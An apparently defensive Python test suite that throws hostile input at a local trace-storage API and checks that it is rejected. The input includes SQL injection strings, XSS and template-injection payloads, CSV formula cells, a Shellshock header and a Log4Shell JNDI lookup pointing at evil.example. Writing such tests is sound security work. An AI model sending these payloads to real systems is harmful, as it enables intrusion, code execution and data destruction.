"""Attacks on what stands behind the paths: the store, its texts, and what is made of them."""

import csv
import io
import json
import urllib.parse

from attack import attack
from victim import FORMULAS, MARKUP, NAMES, SECRETS

RUNS = len(NAMES) + 1
NOTE = "/v1/traces/1/annotations"


def quoted(text):
    return urllib.parse.quote(text, safe="")


def unharmed(tries):
    got = tries.victim.get("/v1/traces?limit=100").json()["traces"]
    tries.expect_true("all traces are there", len(got) == RUNS, [t["id"] for t in got])


@attack("JSON that is none, or not what is asked for")
def json_bodies(tries):
    post = tries.asking.post
    for body in ("{", "}", "[", '{"text"', '{"text":}', '{"text":"x"', '{"text":"x"}}', '{"text":"x"} x', '{"text":"x"}{"text":"y"}',
                 "{'text':'x'}", "{text:1}", '{"text":"x",}', '{,"text":"x"}', '{"text":"a\nb"}', '{"text":"\\x41"}', '{"text":"\\u12"}',
                 '{"text":NaN}', '{"text":Infinity}', '{"text":01}', '{"text":1.}', '{"text":.5}', '{"text":+1}', '{"text":1e}',
                 '{"text":tru}', '/*x*/{"text":"x"}', '{"text":"x"}//', "\0", " ", "\n\n", "null x", '"unterminated',
                 b'\xff\xfe{\x00"\x00', b'{"text":"\xff"}', b'{"text":"\xc3"}', b'{"text":"\xc0\xaf"}', b'{"text":"\xed\xa0\x80"}',
                 b'{"\xff":1}', '{"text":"\\ud800"}', '{"text":"\\udc00\\ud800"}', '{"text":"a\0b"}', "<xml/>", "text=x", "--x\r\n\r\n"):
        tries.expect(post(NOTE, body), 400, "the body is no")
    for depth in (65, 1000, 100_000, 500_000):
        tries.expect(post(NOTE, "[" * depth), 400, "the body is no JSON")
        tries.expect(post(NOTE, "[" * depth + "]" * depth), 400, "the body is no JSON")
    tries.expect(post(NOTE, '{"a":' * 100_000 + "1" + "}" * 100_000), 400, "the body is no JSON")
    tries.expect(post(NOTE, ""), 400, "a body is missing")
    for body in ("null", "true", "1", '"text"', "[]", "[{}]", "1e400", "-1", '[{"text":"x"}]'):
        tries.expect(post(NOTE, body), 400, "body")
    for body, naming in (({}, "body.text is missing"), ({"text": ""}, "body.text"), ({"text": 1}, "body.text"), ({"text": None}, "body.text"),
                         ({"text": ["x"]}, "body.text"), ({"text": {"$ne": 1}}, "body.text"), ({"text": "x", "more": 1}, "body.more"),
                         ({"text": "x", "__proto__": {}}, "nobody asked"), ({"text": "x", "tags": "t"}, "body.tags"),
                         ({"text": "x", "tags": [1]}, "body.tags[0]"), ({"text": "x", "tags": [["t"]]}, "body.tags[0]"),
                         ({"text": "x", "tags": ["t"] * 101}, "body.tags"), ({"text": "x", "author": None}, "body.author"),
                         ({"text": "x" * 16_001}, "body.text"), ({"text": "x", "author": "a" * 1001}, "body.author"),
                         ({"text": "x", "m" * 100_000: 1}, "nobody asked"), ({"TEXT": "x"}, "nobody asked")):
        tries.expect(post(NOTE, body), 400, naming)
    tries.expect(post(NOTE, json.dumps({f"m{i}": i for i in range(50_000)})), 400, "nobody asked")
    for target in ("/v1/traces/delete",):
        for wrong in (0, -1, 1.5, "1", None, True, [1], {}, 1 << 63, 1 << 64, 10 ** 30, -(1 << 70)):
            tries.expect(post(target, {"ids": [wrong]}), 400, "body.ids[0]")
        tries.expect(post(target, '{"ids":[1e0]}'), 400, "body.ids[0]")
        tries.expect(post(target, '{"ids":[1.0]}'), 400, "body.ids[0]")
        tries.expect(post(target, {"ids": []}), 400, "body.ids")
        tries.expect(post(target, {"ids": 1}), 400, "body.ids")
        tries.expect(post(target, {"ids": [1] * 10_001}), 400, "body.ids")
        tries.expect(post(target, {"ids": "*"}), 400, "body.ids")
        tries.expect(post(target, {"ids": [999_999] * 10_000}), 200, holds=lambda answer: answer.json() == {"done": 0})
    unharmed(tries)


@attack("one name twice in a body")
def duplicate_names(tries):
    """Who looks at the first and who looks at the last would see two requests."""
    for first, last in (("[1]", "[999999]"), ("[999999]", "[1]"), ('["x"]', "[999999]"), ("[999999]", "null")):
        for name in ("ids", "\\u0069ds", "i\\u0064s"):
            tries.expect(tries.asking.post("/v1/traces/delete", f'{{"ids":{first},"{name}":{last}}}'), 400, "body.ids")
    tries.expect(tries.asking.post(NOTE, '{"text":"x","text":"x"}'), 400, "body.text")
    tries.expect(tries.asking.post(NOTE, "{" + '"text":"x",' * 50_000 + '"text":"x"}'), 400, "body.text")
    unharmed(tries)


INJECTIONS = ["' OR '1'='1", "'; DROP TABLE runs; --", "\" OR 1=1 --", "1' UNION SELECT * FROM sqlite_master --", "x' AND randomblob(1e9) --",
              "') OR 1=1 --", "%' OR '%'='", "\\' OR 1=1", "/**/OR/**/1=1", "x'; ATTACH DATABASE '/tmp/x' AS x; --", "' || load_extension('x') --",
              "NULL", "x\" NEAR/1 y", "a* OR b", "{x}:y", "^x", "\"", "''", "\"\"", "AND", "NOT", "(", ")", "x)", "((((((", "*", "**", "-x", "+x", "a AND",
              "NEAR(a b, 99999999)", "flow_name:x", "rowid:1", "%_%", "____", "\\", "[a-z]", "'\"`;--", "a" * 1000, "\"a\"\"b"]


@attack("SQL where texts are asked for")
def sql(tries):
    def none(answer):
        return answer.json()["traces"] == []
    for text in INJECTIONS:
        value = quoted(text)
        for name in ("flow_name", "client_key", "tag"):
            hit = name == "flow_name" and text in NAMES
            tries.expect(tries.asking.get(f"/v1/traces?{name}={value}"), 200, holds=None if hit else none)
        tries.expect(tries.asking.get(f"/v1/traces/correlated/{value}"), 200, holds=none)
        tries.expect(tries.asking.get(f"/v1/traces/search?q={value}"), 200,
                     holds=lambda answer, text=text: all(found(tries, trace, text) for trace in answer.json()["traces"]))
        tries.expect(tries.asking.get(f"/v1/traces?status={value}"), 400, "status: expected one of")
        tries.expect(tries.asking.get(f"/v1/traces?sort={value}"), 400, "sort: expected one of")
        tries.expect(tries.asking.get(f"/v1/traces/export?format={value}"), 400)
        tries.expect(tries.asking.get(f"/v1/traces/aggregate?window={value}"), 400, "window")
    for text in INJECTIONS[:12]:
        request = tries.asking.request("PUT", "/v1/traces/1/correlation", body={"correlation_id": text})
        tries.expect(request, 200)
        tries.expect(tries.asking.get(f"/v1/traces/correlated/{quoted(text)}"), 200,
                     holds=lambda answer: [t["id"] for t in answer.json()["traces"]] == [1])
        tries.expect(tries.asking.post(NOTE, {"text": text, "author": text, "tags": [text]}), 200)
    unharmed(tries)


def found(tries, trace, text):
    """Whether a trace really holds that text somewhere."""
    whole = tries.victim.get(f"/v1/traces/{trace['id']}?raw=true").json()
    return text.lower() in json.dumps(whole, ensure_ascii=False).lower().replace('\\"', '"').replace("\\\\", "\\")


@attack("filters that cost, or are none")
def filters(tries):
    bad = ["", "x", "=", "==", "=x", "flow", "nope=1", "duration", "duration=", "duration=x", "duration=-1s", "duration=..", "duration=1s..x",
           "duration=9999999999999999999s..", "duration>=", "duration<<1s", "since=", "since=x", "since=-1h", "since=9999999999999999999h",
           "since=2026-13-01", "since=2026-02-30T00:00:00Z", "until=never", "status=", "status=*", "status=good", "errors=maybe", "errors=",
           "status=success|status=failed", "(status=success)", "!status=success", "status=success;x", "duration=1e999s..", "duration=NaN.."]
    bad += ["(" * 900, "(a+)+$" * 100, "!" * 900, "a" * 1000, "(((a+)+)+)+=" + "a" * 500, "status=" + "a" * 900, "{}" * 400]
    for target in ("/v1/traces", "/v1/traces/export", "/v1/traces/search"):
        for expression in bad:
            more = "q=a&" if target.endswith("search") else ""
            tries.expect(tries.asking.get(f"{target}?{more}e={quoted(expression)}"), 400)
        tries.expect(tries.asking.get(f"{target}?e={'a' * 1001}"), 400, "at most 1000 bytes")
    many = "&".join(["e=status%3Dsuccess"] * 90)
    tries.expect(tries.asking.get(f"/v1/traces?{many}"), (200, 400))
    for expression in ("flow=(a%2B)%2B$", "flow=.*", "tag=%25", "client=*", "flow=" + "a" * 900):
        tries.expect(tries.asking.get(f"/v1/traces?e={expression}"), 200, holds=lambda answer: answer.json()["traces"] == [])
    for window in ("-1", "1e3", "9999999999999999999999", "24x", "h", "--1h", "0x10", "1h;", "%2b1h", "1" * 41):
        tries.expect(tries.asking.get(f"/v1/traces/aggregate?window={window}"), 400, "window")


@attack("formulas in a table (CSV)")
def formulas(tries):
    text = tries.victim.get("/v1/traces/export?format=csv&raw=true").body.decode()
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    tries.expect_true("each row has all columns", {len(row) for row in rows} == {16} and len(rows) == RUNS + 1, rows[:3])
    for row in rows[1:]:
        for cell in row:
            tries.expect_true("no cell begins as a formula does", not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row)
    names = [row[2] for row in rows[1:]]
    for formula in FORMULAS:
        tries.expect_true(f"{formula!r} is there, as a text", any(name == "'" + formula.strip() for name in names), names)
    tries.expect(tries.asking.get("/v1/traces/export?format=csv"), 200, kind="text/csv")
    for name in ("html", "xls", "text/html", "../csv", "csv;jsonl", "%3Cscript%3E", "a" * 20):
        tries.expect(tries.asking.get(f"/v1/traces/export?format={name}"), 400)


@attack("markup in names (cross-site scripting)")
def markup(tries):
    for text in (*MARKUP, "<svg/onload=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "javascript:alert(1)", "<!--", "<?php"):
        value = quoted(text)
        tries.expect(tries.asking.get(f"/v1/traces?{value}=1"), 400, "there is no parameter")
        tries.expect(tries.asking.get(f"/v1/traces/{value}"), 400)
        tries.expect(tries.asking.get(f"/v1/traces/export?format={quoted(text[:20])}"), 400)
        tries.expect(tries.asking.get("/v1/traces", f"Origin: {text}"), 403)
        tries.expect(tries.asking.request("GET", "/", f"Host: {text}", host=False), 421)
        tries.expect(tries.asking.get(f"/{value}"), 404)
        tries.expect(tries.asking.get(f"/v1/traces?flow_name={value}"), 200, kind="application/json")
        tries.expect(tries.asking.post(NOTE, {"text": text}), 200, kind="application/json")
    for target, kind in (("/v1/traces", "application/json"), ("/v1/traces/1", "application/json"), ("/v1/traces/stats", "application/json"),
                         ("/v1/traces/export", "application/x-ndjson"), ("/v1/traces/export?format=csv", "text/csv"),
                         ("/v1/traces/export?format=prometheus", "text/plain; version=0.0.4; charset=utf-8"),
                         ("/metrics", "text/plain; version=0.0.4; charset=utf-8")):
        tries.expect(tries.asking.get(target, "Accept: text/html"), 200, kind=kind)
    text = tries.victim.get("/v1/traces/export?format=prometheus").body.decode()
    for line in text.splitlines():
        tries.expect_true("a line of Prometheus text", line.startswith("#") or len(line.rsplit(" ", 1)) == 2, line)


@attack("secrets in answers")
def secrets(tries):
    secret_run = next(t["id"] for t in tries.victim.get("/v1/traces?limit=100").json()["traces"]
                      if t["flow_name"].startswith("look with [masked:"))
    for kind, secret in SECRETS.items():
        note = tries.asking.post(f"/v1/traces/{secret_run}/annotations", {"text": f"it is {secret}", "author": f"key {secret}"[:1000]})
        tries.expect(note, 200)
    for kind, secret in SECRETS.items():
        shown = [part for part in (secret, secret.split("\n")[-2] if "\n" in secret else secret[12:]) if len(part) > 8]
        key = json.dumps(max(shown, key=len))[1:-1].encode()
        for target in (f"/v1/traces/{secret_run}", f"/v1/traces/{secret_run}?raw=false", "/v1/traces", "/v1/traces/stats", "/v1/traces/aggregate",
                       "/v1/traces/search?q=it+is", "/v1/traces/export", "/v1/traces/export?format=jsonl", "/v1/traces/export?format=csv",
                       "/v1/traces/export?format=prometheus", "/metrics"):
            tries.expect(tries.asking.get(target), 200, holds=lambda answer, key=key: key not in answer.body)
        tries.expect(tries.asking.get(f"/v1/traces/{secret_run}?raw=true"), 200, holds=lambda answer, key=key: key in answer.body)
    key = SECRETS["github_token"].encode()
    for target in ("/v1/traces?raw=true", "/v1/traces/export?raw=true", "/v1/traces/export?format=csv&raw=true"):
        tries.expect(tries.asking.get(target), 200, holds=lambda answer: key in answer.body)
    tries.expect(tries.asking.get(f"/v1/traces/{secret_run}"), 200, holds=lambda answer: "anthropic_key=" in answer.header("agdb-masked"))
    for value in ("1", "TRUE", "yes", "", "true,true", "null"):
        tries.expect(tries.asking.get(f"/v1/traces/{secret_run}?raw={value}"), 400, "raw")
    tries.expect(tries.asking.get(f"/v1/traces/{secret_run}?raw=false&raw=true"), 400, "raw")


@attack("protocols and parts that are not offered")
def offers(tries):
    get = tries.asking.get
    for fields in (("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13"),
                   ("Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: AAMAAABkAAQAAP__"), ("Upgrade: TLS/1.0", "Connection: Upgrade"),
                   ("Range: bytes=0-0",), ("Range: bytes=0-,0-,0-,0-,0-,0-",), ("Range: bytes=-1",), ("Range: bytes=9-1",), ("Range: x",),
                   ("Range: bytes=" + ",".join(["5-"] * 1000),), ("If-Range: x", "Range: bytes=1-"), ("If-None-Match: *",), ("If-Match: x",),
                   ("If-Modified-Since: Thu, 01 Jan 2099 00:00:00 GMT",), ("If-Unmodified-Since: x",), ("Expect: 100-continue",), ("Expect: x",),
                   ("Expect: 200-ok",), ("TE: trailers, deflate",), ("Accept-Encoding: gzip;q=NaN, *;q=-1",), ("Accept: x/y;q=9",),
                   ("Max-Forwards: -1",), ("Keep-Alive: timeout=999999999",), ("Cookie: " + "a=b;" * 3000,), ("Authorization: Basic AAAA",),
                   ("Via: 1.1 x",), ("X-Forwarded-For: 127.0.0.1",), ("Last-Event-ID: -1",), ("Last-Event-ID: " + "9" * 400,), ("Content-Type: x",),
                   ("Content-Length: 0",), ("User-Agent: () { :; }; echo x",), ("Referer: http://evil.example/",), ("X-Jndi: ${jndi:ldap://evil.example/a}",)):
        tries.expect(get("/", *fields), 200, kind="application/json", holds=lambda answer: answer.json()["name"] == "agdb")
    for value in ("close", "Close", "keep-alive, close", "close, keep-alive", "CLOSE"):
        tries.expect(get("/", f"Connection: {value}"), 200, keeps=False)
    whole = tries.asking.post(NOTE, {"text": "expected"}, "Expect: 100-continue")
    tries.expect(whole, 200)
    tries.expect(tries.asking.post("/nowhere", {"text": "x"}, "Expect: 100-continue"), 404, keeps=False)
    tries.expect(tries.asking.request("HEAD", "/nowhere"), 404, head_only=True)
    tries.expect(tries.asking.request("HEAD", "/v1/traces/export"), 200, head_only=True)
    tries.expect(tries.asking.request("HEAD", "/v1/traces?limit=0"), 400, head_only=True)


@attack("answers that nobody waits for")
def unread(tries):
    from raw_http import Connection
    import socket
    import struct
    for target in ("/v1/traces/export", "/v1/traces?limit=10000", "/v1/openapi.json", "/metrics", "/v1/status", "/v1/traces/search?q=a"):
        for _ in range(10):
            connection = Connection(tries.victim.port)
            connection.send(tries.asking.get(target) * 5)
            connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.socket.close()
            tries.expect(tries.asking.get("/"), 200)
